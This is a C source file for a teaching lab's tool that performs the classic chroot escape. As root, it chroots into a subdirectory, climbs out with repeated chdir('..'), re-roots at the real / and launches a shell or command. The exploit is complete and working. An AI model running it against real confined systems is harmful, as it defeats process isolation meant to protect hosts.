/* SPDX-License-Identifier: GPL-2.0-or-later */
/* nslab-escape: the classic chroot escape, for the chroot-escape lab.
 *
 * Run as root inside a chroot, it makes a directory, chroots into it (the
 * working directory is now outside the root, because chroot(2) does not
 * change it), walks up with chdir("..") until it reaches the real / (where
 * ".." is "." again), calls chroot(".") there, and execs its arguments
 * (default: an interactive /bin/sh). Built static, so it needs nothing from
 * the jail it is copied into.
 *
 * Usage: nslab-escape [-v] [COMMAND [ARG...]]
 *   -v  print each system call on stderr, strace style */
#include <errno.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define ESCAPE_DIR ".nslab-escape"
#define REACHED "reached" /* in ESCAPE_DIR: "DEV INO" of the / the walk reached */
#define MAX_UP 256        /* deeper than any real path; a walk stops early at the real / */

static bool verbose;

static void say(const char *call, int ret, int err)
{
	if (!verbose)
		return;
	if (ret == 0)
		fprintf(stderr, "nslab-escape: %s = 0\n", call);
	else
		fprintf(stderr, "nslab-escape: %s = -1 %s (%s)\n", call, strerrorname_np(err), strerror(err));
}

static int fail(const char *what)
{
	fprintf(stderr, "nslab-escape: %s: %s\n", what, strerror(errno));
	if (errno == EPERM)
		fprintf(stderr, "nslab-escape: chroot(2) needs CAP_SYS_CHROOT: run me as root\n");
	return 126;
}

/* True when "." and ".." are the same directory: the top of the real tree. */
static bool at_top(void)
{
	struct stat dot, dotdot;
	if (stat(".", &dot) < 0 || stat("..", &dotdot) < 0)
		return true;
	return dot.st_dev == dotdot.st_dev && dot.st_ino == dotdot.st_ino;
}

static int escape(void)
{
	int r = mkdir(ESCAPE_DIR, 0755);
	if (r < 0 && errno == EEXIST)
		r = 0; /* left by an earlier run: just as good */
	say("mkdir(\"" ESCAPE_DIR "\", 0755)", r, errno);
	if (r < 0)
		return fail("mkdir " ESCAPE_DIR);

	/* The root moves below us; our working directory stays where it was,
	 * which is now outside the root: nothing stops ".." on the way up. */
	/* Kept open to leave a note in the jail once outside. */
	int jail_fd = open(ESCAPE_DIR, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	r = chroot(ESCAPE_DIR);
	say("chroot(\"" ESCAPE_DIR "\")", r, errno);
	if (r < 0)
		return fail("chroot " ESCAPE_DIR);

	int ups = 0;
	while (ups < MAX_UP && !at_top()) {
		if (chdir("..") < 0)
			return fail("chdir ..");
		ups++;
	}
	if (verbose)
		fprintf(stderr, "nslab-escape: chdir(\"..\") = 0   (x%d, until \"..\" is \".\")\n", ups);

	r = chroot(".");
	say("chroot(\".\")", r, errno);
	if (r < 0)
		return fail("chroot .");
	/* The note for the lab's check: which / the walk reached (best effort). */
	struct stat top;
	int fd = jail_fd >= 0 && stat(".", &top) == 0
		     ? openat(jail_fd, REACHED, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644)
		     : -1;
	if (fd >= 0) {
		dprintf(fd, "%llu %llu\n", (unsigned long long)top.st_dev, (unsigned long long)top.st_ino);
		close(fd);
	}
	if (jail_fd >= 0)
		close(jail_fd);
	r = chdir("/");
	say("chdir(\"/\")", r, errno);
	return r < 0 ? fail("chdir /") : 0;
}

int main(int argc, char **argv)
{
	int first = 1;
	if (argc > 1 && strcmp(argv[1], "-v") == 0) {
		verbose = true;
		first = 2;
	}
	if (argc > first && (strcmp(argv[first], "-h") == 0 || strcmp(argv[first], "--help") == 0)) {
		printf("Usage: nslab-escape [-v] [COMMAND [ARG...]]\n"
		       "Escapes the chroot it runs in (as root) and runs COMMAND (default: /bin/sh -i)\n"
		       "with the real / as its root. -v prints each system call.\n");
		return 0;
	}
	int st = escape();
	if (st)
		return st;
	/* A mark in what it runs, so that the lab's check can tell an escaped
	 * process from one the learner started on the host (`host sleep &`):
	 * both have the host's / as their root. */
	setenv("NSLAB_ESCAPED", "1", 1);
	if (argc > first) {
		execvp(argv[first], argv + first);
		fprintf(stderr, "nslab-escape: cannot run %s: %s\n", argv[first], strerror(errno));
		return 127;
	}
	execl("/bin/sh", "sh", "-i", (char *)NULL);
	fprintf(stderr, "nslab-escape: cannot run /bin/sh: %s\n", strerror(errno));
	return 127;
}
